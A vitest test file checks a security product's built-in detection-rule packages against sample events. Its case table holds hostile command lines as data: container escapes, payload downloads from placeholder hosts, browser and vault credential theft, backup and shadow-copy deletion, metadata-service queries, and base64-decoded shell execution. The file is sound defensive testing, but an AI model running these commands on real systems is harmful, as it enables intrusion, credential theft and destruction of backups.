/** The items that come with the product: each can be installed, its rules find what they are there for, its hunts run. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { huntLake } from '../../../control/detect/hunts/index.ts'
import { contentsOf, MARKETPLACE_DIR, readItems } from '../../../control/detect/marketplace/index.ts'
import type { TenantId } from '../../../platform/tenant.ts'
import { lakeSources } from '../../../query/lake-sources.ts'
import { useEngine } from '../../../stores/clickhouse/test-engine.ts'
import { makeAdmin, makeTenant, startTestApi, type TestApi } from '../../test-api.ts'

const engine = useEngine({ migrated: true })
const { items, broken } = readItems(MARKETPLACE_DIR)
const all = items.map((item) => ({ slug: item.manifest.slug, item, contents: contentsOf(item.whole) }))
const installable = all.filter(({ item }) => item.manifest.kind !== 'connector')

let api: TestApi
let tenant: TenantId
let token: string

beforeAll(async () => {
  api = await startTestApi()
  tenant = await makeTenant(api, 'acme')
  token = await makeAdmin(api, tenant)
}, 120_000)
afterAll(() => api?.close())

type Event = Readonly<Record<string, unknown>>
/** Events that a rule matches, and similar ones that it does not match. */
type Case = {
  readonly kind: keyof typeof EVENTS
  readonly matches: readonly Event[]
  readonly misses: readonly Event[]
}

const AT = { EventTime: '2024-05-14 07:00:09', Hostname: 'h1.harbor.example', ProcessId: 11, ParentProcessId: 10 }
const K8S = {
  ...{ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', stage: 'ResponseComplete' },
  ...{ requestURI: '/api/v1/x', user: { username: 'm.okafor' }, sourceIPs: ['203.0.113.66'] },
  ...{ requestReceivedTimestamp: '2024-05-14T07:00:09.000000Z', stageTimestamp: '2024-05-14T07:00:09.100000Z' },
  responseStatus: { code: 201 },
}
const AWS = {
  ...{
    eventVersion: '1.08',
    eventTime: '2024-05-14T07:00:09Z',
    awsRegion: 'eu-west-1',
    sourceIPAddress: '203.0.113.66',
  },
  userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/m.okafor', userName: 'm.okafor' },
  ...{ eventID: '11111111-2222-4333-8444-555555555555', eventType: 'AwsApiCall', recipientAccountId: '123456789012' },
}
const WINDOWS = { ...AT, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, User: 'HARBOR\\m.okafor' }
const LINUX = { ...AT, Channel: 'Linux-Sysmon/Operational', User: 'root', ParentImage: '/usr/bin/bash' }
const EVENTS = {
  windows: { format: 'windows', base: { ...WINDOWS, ParentImage: 'C:\\Windows\\explorer.exe' } },
  linux: { format: 'sysmon-linux', base: { ...LINUX, EventID: 1 } },
  linux_file: { format: 'sysmon-linux', base: { ...LINUX, EventID: 11 } },
  kubernetes: { format: 'kubernetes', base: K8S },
  aws: { format: 'aws-cloudtrail', base: AWS },
} as const

/** A process by its path and command line; a file by the program and its path. */
const win = (program: string, CommandLine: string) => ({ Image: `C:\\Windows\\System32\\${program}`, CommandLine })
const lin = (program: string, CommandLine: string, User = 'root') => ({
  Image: `/usr/bin/${program}`,
  CommandLine,
  User,
})
const file = (program: string, TargetFilename: string) => ({ Image: `/usr/bin/${program}`, TargetFilename })
const k8s = (verb: string, resource: string, subresource?: string, username = 'm.okafor') => {
  return {
    verb,
    user: { username },
    objectRef: { resource, namespace: 'shop', name: 'x', apiVersion: 'v1', ...(subresource && { subresource }) },
  }
}
const aws = (eventName: string, more: object = {}) => ({ eventSource: 'backup.amazonaws.com', eventName, ...more })
const ofWindows = (matches: readonly Event[], misses: readonly Event[]): Case => ({ kind: 'windows', matches, misses })
const ofLinux = (matches: readonly Event[], misses: readonly Event[]): Case => ({ kind: 'linux', matches, misses })
const ofFiles = (matches: readonly Event[], misses: readonly Event[]): Case => ({ kind: 'linux_file', matches, misses })
const ofKubernetes = (matches: readonly Event[], misses: readonly Event[]): Case => {
  return { kind: 'kubernetes', matches, misses }
}

const CASES: Readonly<Record<string, Case>> = {
  'container-escape/namespaces-of-process-one.yml': ofLinux(
    [lin('nsenter', 'nsenter -t 1 -m -u -i sh'), lin('nsenter', 'nsenter --target 1 --mount')],
    [lin('nsenter', 'nsenter -t 1842 -n ip a')],
  ),
  'container-escape/runtime-socket-asked.yml': ofLinux(
    [lin('curl', 'curl --unix-socket /var/run/docker.sock http://x/containers/json')],
    [lin('curl', 'curl https://docker.example/')],
  ),
  'container-escape/release-agent-written.yml': ofLinux(
    [lin('sh', 'sh -c echo /cmd > /tmp/cg/release_agent')],
    [lin('sh', 'sh -c ls /sys/fs/cgroup')],
  ),
  'container-escape/host-disk-mounted.yml': ofLinux(
    [lin('mount', 'mount /dev/sda1 /mnt'), lin('mount', 'mount /dev/nvme0n1p1 /host')],
    [lin('mount', 'mount -t tmpfs none /mnt'), lin('mount', 'mount /dev/sda1 /boot')],
  ),
  'windows-uncommon-downloads/certoc-fetch.yml': ofWindows(
    [win('certoc.exe', 'certoc.exe -GetCACAPS https://203.0.113.7/a.ps1')],
    [win('certoc.exe', 'certoc.exe -Scan')],
  ),
  'windows-uncommon-downloads/lock-screen-tool-fetch.yml': ofWindows(
    [win('desktopimgdownldr.exe', 'desktopimgdownldr.exe /lockscreenurl:https://x.example/a.exe /eventName:d')],
    [win('desktopimgdownldr.exe', 'desktopimgdownldr.exe /lockscreenurl:https://x.example/a.jpg /eventName:d')],
  ),
  'windows-uncommon-downloads/finger-used.yml': ofWindows(
    [win('finger.exe', 'finger user@203.0.113.7')],
    [win('finger.exe', 'finger /?')],
  ),
  'windows-uncommon-downloads/help-viewer-opens-address.yml': ofWindows(
    [win('hh.exe', 'hh.exe https://x.example/a.htm')],
    [win('hh.exe', 'hh.exe C:\\Windows\\Help\\a.chm')],
  ),
  'windows-uncommon-downloads/browser-without-window-dumps.yml': ofWindows(
    [win('msedge.exe', 'msedge.exe --headless --dump-dom https://x.example/a')],
    [win('msedge.exe', 'msedge.exe --headless --print-to-pdf=a.pdf https://x.example/a')],
  ),
  'windows-uncommon-downloads/curl-writes-program.yml': ofWindows(
    [win('curl.exe', 'curl.exe -o C:\\Users\\Public\\a.exe https://x.example/a')],
    [
      win('curl.exe', 'curl.exe -o C:\\Users\\Public\\a.json https://x.example/a'),
      win('curl.exe', 'curl.exe https://x.example/a.exe'),
    ],
  ),
  'stored-password-theft/browser-store-copied.yml': ofWindows(
    [
      win(
        'cmd.exe',
        'cmd /c copy "C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" C:\\t',
      ),
    ],
    [win('cmd.exe', 'cmd /c dir "C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"')],
  ),
  'stored-password-theft/vault-listed.yml': ofWindows(
    [win('cmdkey.exe', 'cmdkey /list'), win('vaultcmd.exe', 'vaultcmd /listcreds:"Web Credentials" /all')],
    [win('cmdkey.exe', 'cmdkey /delete:x')],
  ),
  'stored-password-theft/password-words-searched.yml': ofWindows(
    [win('findstr.exe', 'findstr /si password *.xml *.ini')],
    [win('findstr.exe', 'findstr error log.txt')],
  ),
  'stored-password-theft/policy-passwords-searched.yml': ofWindows(
    [win('findstr.exe', 'findstr /S cpassword \\\\dc\\sysvol\\*.xml')],
    [win('findstr.exe', 'findstr /S password \\\\dc\\share')],
  ),
  'stored-password-theft/safe-copied.yml': ofWindows(
    [win('xcopy.exe', 'xcopy C:\\Users\\a\\b.kdbx D:\\')],
    [win('KeePass.exe', 'KeePass.exe C:\\Users\\a\\b.kdbx')],
  ),
  'backup-destruction/backup-catalogue-deleted.yml': ofWindows(
    [
      win('wbadmin.exe', 'wbadmin delete catalog -quiet'),
      win('wbadmin.exe', 'wbadmin delete systemstatebackup -keepversions:0'),
    ],
    [win('wbadmin.exe', 'wbadmin get versions')],
  ),
  'backup-destruction/backup-programs-ended.yml': ofWindows(
    [win('taskkill.exe', 'taskkill /f /im Veeam.Backup.Service.exe')],
    [win('taskkill.exe', 'taskkill /f /im notepad.exe')],
  ),
  'backup-destruction/shadow-copies-by-script.yml': ofWindows(
    [win('diskshadow.exe', 'diskshadow /s C:\\t\\a.txt'), win('diskshadow.exe', 'diskshadow -s a.txt')],
    [win('diskshadow.exe', 'diskshadow')],
  ),
  'backup-destruction/virtual-machines-killed.yml': ofLinux(
    [lin('esxcli', 'esxcli vm process kill --type=force --world-id=1')],
    [lin('esxcli', 'esxcli vm process list')],
  ),
  'backup-destruction/aws-backups-deleted.yml': {
    kind: 'aws',
    matches: [aws('DeleteRecoveryPoint'), aws('DeleteBackupVaultLockConfiguration')],
    misses: [aws('ListBackupVaults'), aws('DeleteRecoveryPoint', { errorCode: 'AccessDenied' })],
  },
  'linux-persistence/unit-written-by-shell.yml': ofFiles(
    [file('bash', '/etc/systemd/system/a.service'), file('python3.11', '/etc/systemd/system/a.timer')],
    [file('dpkg', '/etc/systemd/system/a.service'), file('bash', '/etc/systemd/system/a.service.d/b.conf')],
  ),
  'linux-persistence/start-script-written.yml': ofFiles([file('vim', '/etc/rc.local')], [file('vim', '/etc/hosts')]),
  'linux-persistence/profile-written.yml': ofFiles(
    [file('curl', '/etc/profile.d/a.sh')],
    [file('dpkg', '/etc/profile.d/a.sh'), file('bash', '/home/a/.bashrc')],
  ),
  'linux-persistence/device-rule-written.yml': ofFiles(
    [file('bash', '/etc/udev/rules.d/99-a.rules')],
    [file('dpkg', '/etc/udev/rules.d/99-a.rules')],
  ),
  'linux-persistence/sign-in-module-written.yml': ofFiles(
    [file('cp', '/usr/lib/x86_64-linux-gnu/security/pam_unix.so')],
    [file('dpkg', '/usr/lib/x86_64-linux-gnu/security/pam_unix.so')],
  ),
  'kubernetes-intrusion/token-of-account-made.yml': ofKubernetes(
    [k8s('create', 'serviceaccounts', 'token')],
    [k8s('create', 'serviceaccounts', 'token', 'system:node:n1'), k8s('get', 'serviceaccounts')],
  ),
  'kubernetes-intrusion/admission-webhook-changed.yml': ofKubernetes(
    [k8s('patch', 'mutatingwebhookconfigurations')],
    [k8s('get', 'mutatingwebhookconfigurations'), k8s('patch', 'pods')],
  ),
  'kubernetes-intrusion/container-put-into-pod.yml': ofKubernetes(
    [k8s('patch', 'pods', 'ephemeralcontainers')],
    [k8s('patch', 'pods')],
  ),
  'kubernetes-intrusion/node-reached-through-api.yml': ofKubernetes(
    [k8s('get', 'nodes', 'proxy')],
    [k8s('get', 'nodes'), k8s('get', 'nodes', 'proxy', 'system:serviceaccount:monitoring:prometheus')],
  ),
  'remote-tool-abuse/remote-tool-installed-silently.yml': ofWindows(
    [
      win('AnyDesk.exe', 'C:\\t\\AnyDesk.exe --install C:\\p --silent'),
      win('msiexec.exe', 'msiexec /i ScreenConnect.msi /qn'),
    ],
    [win('AnyDesk.exe', 'C:\\t\\AnyDesk.exe')],
  ),
  'remote-tool-abuse/remote-tool-password-set.yml': ofWindows(
    [win('AnyDesk.exe', 'AnyDesk.exe --set-password'), win('rustdesk.exe', 'rustdesk.exe --password 1234')],
    [win('AnyDesk.exe', 'AnyDesk.exe --service')],
  ),
  'web-server-exploitation/server-asks-metadata.yml': ofLinux(
    [lin('curl', 'curl http://169.254.169.254/latest/meta-data/iam/', 'www-data')],
    [lin('curl', 'curl http://169.254.169.254/latest/meta-data/iam/', 'root')],
  ),
  'web-server-exploitation/server-decodes-and-runs.yml': ofLinux(
    [lin('sh', 'sh -c echo aWQ= | base64 -d | bash', 'www-data')],
    [lin('sh', 'sh -c echo aWQ= | base64 -d', 'www-data')],
  ),
  'web-server-exploitation/server-looks-around.yml': ofLinux(
    [lin('whoami', 'whoami', 'www-data')],
    [lin('whoami', 'whoami', 'root'), lin('php', 'php a.php', 'www-data')],
  ),
}

test('at least a dozen built-in packages are valid, with unique slugs and rule ids', () => {
  expect(broken).toEqual([])
  expect(all.length).toBeGreaterThanOrEqual(12)
  for (const { slug, contents } of all) expect([slug, contents.problems]).toEqual([slug, []])
  const ids = all.flatMap(({ contents }) => contents.rules.map(({ text }) => /^id: (\S+)$/m.exec(text)?.[1]))
  expect(new Set(ids).size).toBe(ids.length)
})

test('built-in packages list the techniques of their rules, hunts and playbooks', () => {
  for (const { item, contents } of all) {
    const techniques = new Set(item.manifest.mitre_techniques)
    const ofHunts = contents.hunts.flatMap(({ hunt }) => hunt.techniques)
    const ofPlaybooks = contents.playbooks.flatMap(({ document }) => document.trigger.techniques ?? [])
    const missing = [...ofHunts, ...ofPlaybooks].filter((technique) => !techniques.has(technique))
    expect([item.manifest.slug, missing]).toEqual([item.manifest.slug, []])
  }
})

test.each(installable)('$slug is installed with all its parts', async ({ slug, contents }) => {
  const { status, body } = await api.ask('POST', `marketplace/items/${slug}:install`, { token })
  expect([status, body]).toEqual([200, expect.objectContaining({ slug, already_installed: false })])
  const count = contents.rules.length + contents.hunts.length + contents.playbooks.length
  expect(body.parts.map(({ outcome }: { outcome: string }) => outcome)).toEqual(Array(count).fill('created'))
})

describe('rules', () => {
  const rules = all.flatMap(({ slug, contents }) => contents.rules.map(({ file }) => ({ slug, file })))

  test('each have test cases', () => {
    const names = rules.map(({ file }) => file.replace('marketplace/', ''))
    expect(Object.keys(CASES).sort()).toEqual(names.sort())
  })

  test.each(rules)('$file matches its positive cases and not its negative ones', async ({ slug, file: name }) => {
    const { kind, matches, misses } = CASES[name.replace('marketplace/', '')] as Case
    const { format, base } = EVENTS[kind]
    const parts = (await api.ask('GET', `marketplace/items/${slug}`, { token })).body.parts
    const { id } = parts.find(({ path }: { path: string }) => path === `rules/${name.split('/').at(-1)}`)
    const events = [...matches, ...misses].map((event) => ({ ...base, ...event }))
    const { body } = await api.ask('POST', `rules/${id}/test`, { token, body: { format, events } })
    const held = body.results.map(({ matches: found }: { matches: string[] | null }) => found?.length)
    expect(held).toEqual([...matches.map(() => 1), ...misses.map(() => 0)])
  })
})

const SQL = all.flatMap(({ contents }) => contents.hunts.filter(({ hunt }) => hunt.language === 'sql'))

test.each(SQL.map(({ path, hunt }) => ({ path, sql: hunt.query })))('$path runs against the lake', async ({ sql }) => {
  const span = { from: '2026-01-01 00:00:00.000', to: '2026-01-08 00:00:00.000' }
  const query = { sql, rowsMax: 10, bytesMax: 65_536 }
  const { rows } = await huntLake(engine().client, lakeSources()).sql(tenant, query, span, AbortSignal.timeout(20_000))
  expect(rows).toEqual([])
})
